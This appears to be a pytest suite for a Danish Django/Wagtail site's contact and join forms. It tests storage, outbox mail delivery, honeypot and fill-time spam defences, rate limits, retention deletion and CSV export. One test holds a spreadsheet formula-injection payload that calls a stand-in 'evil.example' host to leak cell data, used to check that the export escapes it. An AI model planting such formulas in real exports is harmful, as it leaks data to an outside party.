"""Join and contact forms: stored, mailed to the secretariat, spam-defended, deleted in time."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.core import mail
from django.core.mail.backends.locmem import EmailBackend
from django.core.management import call_command
from django.test import TestCase
from django.utils import timezone
from wagtail.contrib.forms.models import FormSubmission

from contact import services
from core.outbox.models import OutboundEmail
from core.outbox.services import deliver_due
from home.models import SiteSettings
from tests.factories import FormPageFactory, StandardPageFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fill_time(settings):
    settings.CONTACT_FORM_MIN_SECONDS = 0  # tests that check the fill time set their own


@pytest.fixture
def form_page(home_page):
    return FormPageFactory(parent=home_page, slug="kontakt")


def _post(client, page, *, email="borger@example.dk", message="Hej", ip="198.51.100.7", **extra):
    data = {
        "navn": "Bo Borger",
        "e_mail": email,
        "besked": message,
        services.STARTED_FIELD: services.fill_started_token(),
        **extra,
    }
    with TestCase.captureOnCommitCallbacks(execute=True):  # e-mails leave after COMMIT
        return client.post(page.url, data, REMOTE_ADDR=ip)


def test_the_form_shows_the_editor_fields_retention_and_privacy_policy(
    client, home_page, form_page
):
    policy = StandardPageFactory(parent=home_page, title="Privatlivspolitik", slug="privatliv")
    settings_ = SiteSettings.for_site(home_page.get_site())
    settings_.privacy_policy_page = policy
    settings_.save()

    html = client.get(form_page.url).content.decode()

    assert 'name="besked"' in html and 'name="e_mail"' in html
    assert "sletter dem efter 180 dage" in html
    assert 'href="/privatliv/"' in html
    assert f'name="{services.HONEYPOT_FIELD}"' in html


def test_a_submission_is_stored_and_mailed_to_the_secretariat(client, form_page):
    response = _post(client, form_page, message="Vi vil gerne være med.")

    assert response.status_code == 200
    assert "Tak for din henvendelse" in response.content.decode()
    submission = FormSubmission.objects.get(page=form_page)
    assert submission.get_data()["besked"] == "Vi vil gerne være med."
    assert services.HONEYPOT_FIELD not in submission.form_data
    assert services.STARTED_FIELD not in submission.form_data
    [message] = mail.outbox
    assert message.to == ["sekretariat@example.dk"]
    assert "Vi vil gerne være med." in message.body
    # Like every e-mail of the site, it went through the outbox.
    assert list(OutboundEmail.objects.values_list("kind", "recipient", "status")) == [
        ("contact.submission", "sekretariat@example.dk", "sent")
    ]


class RefusingBackend(EmailBackend):
    def open(self):
        raise ConnectionRefusedError("SMTP down")


def test_a_mail_server_that_is_down_loses_nothing(client, form_page, settings):
    settings.EMAIL_BACKEND = f"{__name__}.RefusingBackend"

    response = _post(client, form_page, message="Ring til mig.")

    assert response.status_code == 200
    assert FormSubmission.objects.filter(page=form_page).count() == 1
    assert OutboundEmail.objects.get().status == "pending"  # retried by the beat

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    OutboundEmail.objects.update(next_attempt_at=timezone.now())
    deliver_due()
    deliver_due()
    assert [m.to for m in mail.outbox] == [["sekretariat@example.dk"]]
    assert "Ring til mig." in mail.outbox[0].body


def test_a_filled_in_honeypot_looks_like_success_but_keeps_and_sends_nothing(client, form_page):
    response = _post(client, form_page, **{services.HONEYPOT_FIELD: "http://spam.example"})

    assert response.status_code == 200
    assert "Tak for din henvendelse" in response.content.decode()
    assert not FormSubmission.objects.exists()
    assert mail.outbox == []


def test_a_form_sent_back_faster_than_a_person_types_is_refused_with_values_kept(
    client, form_page, settings
):
    settings.CONTACT_FORM_MIN_SECONDS = 60

    response = _post(client, form_page, message="Hurtig besked")

    html = response.content.decode()
    assert response.status_code == 200
    assert "sendt meget hurtigt" in html
    assert "Hurtig besked" in html  # nothing typed is lost
    assert not FormSubmission.objects.exists()


@pytest.mark.parametrize("stamp", ["", "123", "forfalsket:abc:def"])
def test_a_missing_or_forged_time_stamp_is_refused(client, form_page, stamp):
    response = _post(client, form_page, **{services.STARTED_FIELD: stamp})

    assert response.status_code == 200
    assert "udløbet eller ufuldstændig" in response.content.decode()
    assert not FormSubmission.objects.exists()


def test_an_old_stamp_is_refused(client, form_page, settings, monkeypatch):
    token = services.fill_started_token()
    later = timezone.now() + datetime.timedelta(seconds=settings.CONTACT_FORM_MAX_AGE_SECONDS + 5)
    monkeypatch.setattr("django.core.signing.time.time", lambda: later.timestamp())
    response = _post(client, form_page, **{services.STARTED_FIELD: token})

    assert "udløbet" in response.content.decode()


def test_one_address_is_limited_whatever_ip_it_comes_from(client, form_page, settings):
    settings.RATE_LIMITS = {
        **settings.RATE_LIMITS,
        "contact_form": {"ip": "50/h", "address": "2/h"},
    }
    for n in range(2):
        _post(client, form_page, ip=f"203.0.113.{n}")
    refused = _post(client, form_page, ip="203.0.113.99")

    assert "mange henvendelser" in refused.content.decode()
    assert FormSubmission.objects.count() == 2
    # Another address from a fresh IP still gets through.
    _post(client, form_page, email="anden@example.dk", ip="203.0.113.100")
    assert FormSubmission.objects.count() == 3


def test_one_ip_is_limited_whatever_address_it_types(client, form_page, settings):
    settings.RATE_LIMITS = {
        **settings.RATE_LIMITS,
        "contact_form": {"ip": "2/h", "address": "50/h"},
    }
    for n in range(2):
        _post(client, form_page, email=f"person{n}@example.dk")
    refused = _post(client, form_page, email="person9@example.dk")

    assert "mange henvendelser" in refused.content.decode()
    assert FormSubmission.objects.count() == 2


def test_bad_input_gets_field_errors_not_a_500(client, form_page):
    response = _post(client, form_page, email="ikke-en-adresse", message="")

    assert response.status_code == 200
    assert "errorlist" in response.content.decode()
    assert not FormSubmission.objects.exists()


def test_submissions_are_deleted_after_the_page_retention_period(home_page, form_page):
    other = FormPageFactory(parent=home_page, slug="bliv-medlem", retention_days=30)
    now = timezone.now()

    def submission(page, days_old):
        item = FormSubmission.objects.create(page=page, form_data={"besked": str(days_old)})
        FormSubmission.objects.filter(pk=item.pk).update(
            submit_time=now - datetime.timedelta(days=days_old)
        )
        return item.pk

    kept = [submission(form_page, 179), submission(other, 29)]
    submission(form_page, 181)
    submission(other, 31)

    out = io.StringIO()
    call_command("delete_expired_form_submissions", stdout=out)

    assert "Deleted 2" in out.getvalue()
    assert sorted(FormSubmission.objects.values_list("pk", flat=True)) == sorted(kept)


def test_the_admin_lists_and_exports_submissions_as_formula_safe_csv(client, form_page):
    attack = '=HYPERLINK("https://evil.example/?d="&A2,"klik")'
    _post(client, form_page, message=attack)
    editor = UserFactory(username="formular-redaktoer", is_staff=True, is_superuser=True)
    client.force_login(editor)

    listing = client.get(f"/admin/forms/submissions/{form_page.pk}/")
    assert listing.status_code == 200 and "Bo Borger" in listing.content.decode()

    response = client.get(f"/admin/forms/submissions/{form_page.pk}/", {"export": "csv"})
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert f"'{attack}" in cells
    assert attack not in cells
